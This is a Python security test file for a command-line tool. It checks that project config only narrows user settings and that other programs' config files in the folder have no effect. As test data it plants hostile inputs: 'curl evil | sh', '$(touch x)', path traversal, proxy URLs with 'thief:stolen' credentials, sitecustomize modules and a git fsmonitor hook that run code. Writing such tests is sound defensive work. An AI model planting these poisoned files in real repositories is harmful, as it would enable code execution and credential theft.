"""Every key, set to anything in a repository's file: it narrows what the user has, or does nothing; and what
other programs and libraries would take from such a folder does nothing."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable
from fnmatch import fnmatchcase
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from acr_cli.errors import ConfigurationError
from acr_cli.settings import KEYS, Key, Settings, load
from acr_cli.settings.sources import _STRICTEST
from acr_cli.testing.answers import Say
from acr_cli.testing.loopback import LoopbackServer
from tests.end_to_end.conftest import RIGHT, SLUG, result_of
from tests.security import canary
from tests.security.test_injected_orders import listening

Acr = Callable[..., subprocess.CompletedProcess[str]]
MENDS = Say(text=f"slug.py\n```\n{RIGHT}```\n")

MODELS = ("a", "ab", "abc", "b", "b/c", "openai/gpt-5", "openai/gpt-5-mini", "openai/gpt-55")
PATTERNS = (
    *MODELS,
    "*",
    "a*",
    "?",
    "a?",
    "a??",
    "*c",
    "openai/*",
    "openai/gpt-?",
    "openai/gpt-5*",
    "[ab]",
    "?*",
)
HOSTILE = ("evil", "curl evil | sh", "https://evil.example", "/etc", "..", "*", "$(touch x)", "auto")
UNKNOWN = (
    *(
        "model",
        "command",
        "base_url",
        "api_key_env",
        "key",
        "parts",
        "plugins",
        "hooks",
        "env",
        "proxy",
        "yes",
    ),
    *("memory", "sandboxes", "volumes", "privileged", "Max_Cost", "MAX_COST", "max-cost", "sandbox.network"),
    *(
        "model.base_url",
        "models",
        "acr.test",
        "tool.acr.test",
        "test.command",
        "memory.path",
        "home",
        "origins",
    ),
)


def values(key: Key) -> st.SearchStrategy[Any]:
    """Values that a key can hold, the widest among them."""
    match key.kind:
        case "text":
            return st.sampled_from(key.choices or HOSTILE)
        case "variable":
            return st.sampled_from(("MY_TOKEN", "OPENAI_API_KEY", "_"))
        case "list":
            return st.lists(
                st.sampled_from(PATTERNS if key.project else (*HOSTILE, *MODELS)), min_size=1, max_size=3
            )
        case "flag":
            return st.booleans()
        case "count":
            return st.integers(int(key.low), 10**6)
        case "size":
            return st.integers(int(key.low), 2**50)
        case "duration":
            return st.floats(0.1, 10**9)
        case "days":
            return st.one_of(st.just("none"), st.floats(0, 10**6))
        case "number" | "money":
            top = key.high if key.high < float("inf") else 10**9
            return st.one_of(st.floats(key.low + 0.001 if key.above else key.low, top))
        case _:
            raise AssertionError(f"{key.kind} is a kind that no project was tried with")


def toml(name: str, value: object) -> str:
    return f"{name} = {json.dumps(value)}\n"


def allowed(patterns: tuple[str, ...]) -> set[str]:
    return {name for name in MODELS if not patterns or any(fnmatchcase(name, each) for each in patterns)}


def is_narrower(key: Key, mine: Any, theirs: Any) -> bool:
    match key.project:
        case "min":
            return bool(theirs <= mine)
        case "strict":
            order = _STRICTEST[key.name]
            return order.index(theirs) >= order.index(mine)
        case "union":
            return set(theirs) >= set(mine)
        case "intersect":
            return allowed(theirs) <= allowed(mine)
        case _:
            return bool(theirs == mine)


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("project")
    (folder / ".git").mkdir()
    return folder


def loaded(place: Path, user: str, project: str) -> tuple[Settings, tuple[str, ...]]:
    (place / "user.toml").write_text(user)
    (place / ".acr.toml").write_text(project)
    found = load(where=place, config=place / "user.toml", environ={"ACR_HOME": str(place / "home")})
    return found.settings, found.warnings


@pytest.mark.parametrize("key", [key for key in KEYS if key.file], ids=lambda key: key.name)
def test_a_key_only_narrows_or_is_ignored_and_said(place: Path, key: Key) -> None:
    @settings(max_examples=25 if key.project else 6, deadline=None, database=None, derandomize=True)
    @given(mine=st.one_of(st.none(), values(key)), theirs=values(key))
    def check(mine: Any, theirs: Any) -> None:
        user = "" if mine is None else toml(key.name, mine)
        before, _ = loaded(place, user, "")
        try:
            after, warnings = loaded(place, user, toml(key.name, theirs))
        except ConfigurationError:
            if key.project != "intersect":
                raise
            return  # no model at all: nothing is narrower
        changed = {name for name in Settings.__slots__ if getattr(before, name) != getattr(after, name)}
        assert changed <= {key.field, "origins"}
        assert is_narrower(key, getattr(before, key.field), getattr(after, key.field))
        if not key.project:
            assert any(repr(key.name) in warning and "ignored" in warning for warning in warnings)

    check()


@pytest.mark.parametrize("name", UNKNOWN)
@pytest.mark.parametrize("value", ["evil", True, 10**9, ["evil"]], ids=["text", "flag", "number", "list"])
def test_what_is_no_key_does_nothing_and_is_said(place: Path, name: str, value: object) -> None:
    before, _ = loaded(place, "", "")
    after, warnings = loaded(place, "", toml(name, value))
    assert (after, [warning for warning in warnings if "ignored" in warning]) == (before, list(warnings))
    assert warnings


def test_tables_of_models_do_nothing(place: Path) -> None:
    before, _ = loaded(place, "", "")
    table = '[[model]]\nid = "openai/x"\nbase_url = "https://evil.example"\napi_key_env = "OPENAI_API_KEY"\n'
    after, warnings = loaded(place, "", table)
    assert after == before
    assert "ignored keys: 'model' (line 1), which a project may not set" in warnings[0]


# --- settings of other programs and libraries, in the folder that acr is called in -------------------------

VARIABLES = (
    *("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "OPENAI_BASE_URL"),
    *("OPENAI_API_BASE", "ANTHROPIC_BASE_URL", "ANTHROPIC_API_BASE", "GEMINI_API_BASE", "ACR_MEMORY_URL"),
    *("CHROMA_OTEL_COLLECTION_ENDPOINT", "PIP_INDEX_URL", "UV_INDEX_URL", "OTEL_EXPORTER_OTLP_ENDPOINT"),
)
SETTINGS_OF_CHROMA = {
    "CHROMA_SERVER_HTTP_PORT": "no number",  # which ends its import
    "CHROMA_API_IMPL": "evil.Api",
    "CHROMA_PRODUCT_TELEMETRY_IMPL": "evil.Telemetry",
    "CHROMA_OTEL_GRANULARITY": "all",
    "CHROMA_SERVER_SSL_VERIFY": "false",
    "ANONYMIZED_TELEMETRY": "true",
    "PERSIST_DIRECTORY": "evil",
    "ALLOW_RESET": "true",
}


def of_other_programs(port: int, marks: Path) -> dict[str, str]:
    """What programs and libraries take from where they are called: all leads to a port, or leaves a mark."""
    url = f"http://thief:stolen@127.0.0.1:{port}"
    variables = {
        **dict.fromkeys(VARIABLES, url),
        **SETTINGS_OF_CHROMA,
        "DOCKER_HOST": f"tcp://127.0.0.1:{port}",
        "ACR_SANDBOX": "none",
        "ACR_MAX_COST": "1000",
        "SSL_CERT_FILE": "/dev/null",
        "REQUESTS_CA_BUNDLE": "/dev/null",
        "KEY_OF_THE_TESTS": "theirs",
        "LITELLM_LOG": "DEBUG",
        "OPENAI_API_KEY": "theirs",
        "PYTHONPATH": ".",
    }
    code = f"import pathlib\npathlib.Path({str(marks)!r}, __name__).touch()\n"
    model = f"model_list:\n- model_name: '*'\n  litellm_params: {{model: openai/right, api_base: {url}}}\n"
    modules = (
        *("sitecustomize", "usercustomize", "litellm", "docker", "evil", "chromadb/__init__", "pip/__main__"),
        *("git/__init__", "httpx", "pydantic_settings", "dotenv"),
    )
    return {
        **{f"{name}.py": code for name in modules},
        ".env": "".join(f"{name}={value}\n" for name, value in variables.items()),
        ".envrc": "".join(f"export {name}={value}\n" for name, value in variables.items()),
        ".netrc": "default login thief password stolen\nmachine 127.0.0.1 login thief password stolen\n",
        "pip.conf": f"[global]\nindex-url = {url}/simple\nproxy = {url}\n",
        ".npmrc": f"registry={url}\nproxy={url}\n",
        ".pypirc": f"[distutils]\nindex-servers = x\n[x]\nrepository = {url}\n",
        ".docker/config.json": json.dumps(
            {"currentContext": "evil", "proxies": {"default": {"httpProxy": url}}}
        ),
        ".gitconfig": f"[core]\n\tfsmonitor = touch {marks}/gitconfig\n[http]\n\tproxy = {url}\n",
        "litellm_config.yaml": model,
        "proxy_server_config.yaml": model,
        ".python-version": f"3.99.0\n../../../../../..{marks}\n",
        ".tool-versions": "python 3.99.0\nnodejs 99\n",
        "uv.toml": f'index-url = "{url}/simple"\npython-preference = "only-managed"\n',
        "tox.ini": f"[tox]\nrequires = evil\n[testenv]\ncommands = touch {marks}/tox\n",
        "pyvenv.cfg": "home = /nowhere\ninclude-system-site-packages = true\n",
        ".chroma/chroma.sqlite3": "none",
        "chroma/chroma.sqlite3": "none",
    }


ALIKE = (
    ("doctor", "--json"),
    ("config", "show", "--origin"),
    ("models", "list", "--json"),
    ("completion", "--values", "models"),
    ("route", "join the words", "--json"),
)
"""Commands that say what they would do with whom, and say the same in every folder."""


def test_settings_of_other_programs_have_no_effect(
    acr: Acr, git_repo: Callable[..., Path], tmp_path: Path, pool: Callable[..., None], acr_home: Path
) -> None:
    marks = tmp_path / "marks"
    marks.mkdir()
    with listening() as (port, heard), LoopbackServer({"right": lambda _: MENDS}) as server:
        pool(server, {"right": 1.0})
        plain, theirs = (
            git_repo({**SLUG, **more}, name=f"{name}/slug")
            for name, more in (("plain", {}), ("theirs", of_other_programs(port, marks)))
        )
        for command in ALIKE:
            there = [acr(*command, cwd=place) for place in (plain, theirs)]
            said = [(done.returncode, done.stdout.replace(str(theirs), str(plain))) for done in there]
            assert said[0] == said[1], command
            assert there[0].returncode == 0, (command, there[0].stderr)
        done = acr("fix", "--json", "--sandbox", "bubblewrap", "--model", "openai/right", cwd=theirs)
        stats = acr("memory", "stats", "--json", cwd=theirs)
        listed = acr("memory", "list", cwd=theirs)
    assert result_of(done.stdout)["status"] == "fixed", done.stderr
    assert {request.key for request in server.requests} == {canary.KEY}
    assert json.loads(stats.stdout)["outcomes"] == 1
    assert "openai/right" in listed.stdout
    assert (heard, list(marks.iterdir())) == ([], [])
    assert list(acr_home.rglob("chroma.sqlite3"))


def test_chroma_takes_nothing_from_the_folder_it_is_called_in(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chromadb.config import Settings as OfChroma

    from acr_cli.memory import chroma

    chroma.load()
    monkeypatch.chdir(tmp_path)
    expected = chroma._settings()
    odd = {name: "evil" for name, field in OfChroma.model_fields.items() if "str" in str(field.annotation)}
    assert "chroma_api_impl" in odd
    (tmp_path / ".env").write_text("".join(f"{name.upper()}={value}\n" for name, value in odd.items()))
    assert chroma._settings() == expected
